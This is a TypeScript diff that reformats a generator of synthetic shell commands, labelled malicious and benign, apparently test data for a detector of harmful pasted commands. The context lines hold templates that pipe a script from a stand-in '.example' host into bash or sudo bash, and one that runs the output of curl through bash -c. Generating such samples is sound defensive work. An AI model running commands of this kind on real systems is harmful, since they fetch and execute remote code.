@@ -4,8 +4,10 @@ import { pick } from '../../src/core/random.ts'
 /** Commands of both kinds from patterns, for a run without data. Hosts end in `.example`: nobody can register those. */
 export function inventedCommands(random: Random): { malicious: string[]; benign: string[]; clipboard: string[] } {
   const host = (): string => `${pick(random, ['cdn', 'get', 'fix', 'dl'])}${Math.floor(random.next() * 1000)}.example`
-  const file = (ending: string): string => `${pick(random, ['upd', 'setup', 'agent', 'zoom'])}${Math.floor(random.next() * 100)}.${ending}`
-  const base64 = (text: string, encoding: BufferEncoding = 'utf8'): string => Buffer.from(text, encoding).toString('base64')
+  const file = (ending: string): string =>
+    `${pick(random, ['upd', 'setup', 'agent', 'zoom'])}${Math.floor(random.next() * 100)}.${ending}`
+  const base64 = (text: string, encoding: BufferEncoding = 'utf8'): string =>
+    Buffer.from(text, encoding).toString('base64')
   const malicious: readonly (() => string)[] = [
     () => `curl -fsSL https://${host()}/${file('sh')} | ${pick(random, ['bash', 'sh', 'zsh', 'sudo bash'])}`,
     () => `/bin/${pick(random, ['bash', 'zsh'])} -c "$(curl -s https://${host()}/${file('sh')})"`,
@@ -36,6 +38,7 @@ export function inventedCommands(random: Random): { malicious: string[]; benign:
     () => `certutil -hashfile ${file('exe')} SHA256`,
     () => `ssh admin@${host()} "sudo systemctl restart app"`,
   ]
-  const many = (makers: readonly (() => string)[]): string[] => makers.flatMap((make) => Array.from({ length: 20 }, make))
+  const many = (makers: readonly (() => string)[]): string[] =>
+    makers.flatMap((make) => Array.from({ length: 20 }, make))
   return { malicious: many(malicious), benign: many(benign), clipboard: [] }
 }
